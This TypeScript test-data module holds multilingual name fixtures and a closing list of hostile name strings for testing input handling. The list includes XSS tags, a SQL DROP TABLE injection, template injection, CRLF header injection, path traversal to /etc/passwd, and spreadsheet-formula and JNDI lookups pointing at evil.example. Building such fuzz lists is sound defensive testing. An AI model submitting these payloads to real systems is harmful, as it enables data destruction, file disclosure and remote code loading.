/** A name part as it is shown, and as it stands in an e-mail address. */
export type NamePart = readonly [shown: string, written: string]

type NameParts = readonly [NamePart, ...NamePart[]]

/** Given and family names by script; each list is combined freely, so no full name is anybody's on purpose. */
export const nameScripts = {
  latin: {
    given: [
      ['Amélie', 'amelie'],
      ['Björn', 'bjorn'],
      ['Chiara', 'chiara'],
      ['Dağhan', 'daghan'],
      ['Éabha', 'eabha'],
      ['Fiachra', 'fiachra'],
      ['Grażyna', 'grazyna'],
      ['Hòa', 'hoa'],
      ['Íñigo', 'inigo'],
      ['Jürgen', 'jurgen'],
      ['Kauê', 'kaue'],
      ['Luna', 'luna'],
      ['Marit', 'marit'],
      ['Ngozi', 'ngozi'],
      ['Owen', 'owen'],
      ['Þórdís', 'thordis'],
    ],
    family: [
      ['Ångström-Vale', 'angstrom.vale'],
      ['Borchgrevink', 'borchgrevink'],
      ['da Conceição', 'da.conceicao'],
      ['Dvořáková', 'dvorakova'],
      ['Fernweh', 'fernweh'],
      ['Größer', 'groesser'],
      ['Kowalczyk', 'kowalczyk'],
      ['Łęcka', 'lecka'],
      ['Nwachukwu', 'nwachukwu'],
      ['O’Meadhra', 'omeadhra'],
      ['Peña-Río', 'pena.rio'],
      ['Szőllősi', 'szollosi'],
      ['van ’t Hek', 'van.t.hek'],
      ['Yıldızhan', 'yildizhan'],
    ],
  },
  cyrillic: {
    given: [
      ['Злата', 'zlata'],
      ['Мирослав', 'miroslav'],
      ['Оксана', 'oksana'],
      ['Тихон', 'tikhon'],
    ],
    family: [
      ['Берёзкина', 'berezkina'],
      ['Ковальчук', 'kovalchuk'],
      ['Лесной', 'lesnoy'],
    ],
  },
  arabic: {
    given: [
      ['نور', 'nour'],
      ['سلمى', 'salma'],
      ['فارس', 'faris'],
      ['هدى', 'huda'],
    ],
    family: [
      ['النجار', 'alnajjar'],
      ['بن زيدان', 'ben.zidan'],
      ['القمري', 'alqamari'],
    ],
  },
  chinese: {
    given: [
      ['春晓', 'chunxiao'],
      ['子墨', 'zimo'],
      ['雨桐', 'yutong'],
      ['𠮷安', 'jian'],
    ],
    family: [
      ['欧阳', 'ouyang'],
      ['林', 'lin'],
      ['司徒', 'situ'],
    ],
  },
  emoji: {
    given: [
      ['🌻 Sunny', 'sunny'],
      ['Max 🚴‍♀️', 'max'],
      ['👩🏽‍💻', 'coder'],
    ],
    family: [
      ['☕', 'coffee'],
      ['Winters ❄️', 'winters'],
      ['🇨🇭', 'swiss'],
    ],
  },
} as const satisfies Record<string, { given: NameParts; family: NameParts }>

/** Names that break a page or a program which trusts them; put in place of a normal name. */
export const hostileNames: readonly [string, ...string[]] = [
  '<script>alert("name")</script>',
  '<img src=x onerror="alert(1)">',
  `Robert'); DROP TABLE contacts;--`,
  '"quoted" \'twice\' `thrice`',
  '\u202Egnp.exe\u202C',
  '{{constructor.constructor("return this")()}}',
  '=HYPERLINK("https://evil.example","click")',
  '%00%0d%0aSet-Cookie:%20a=b',
  'Zero\u200Bwidth\uFEFF and\ttab\nand line',
  '../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '&lt;b&gt;already escaped&lt;/b&gt; &amp;',
]
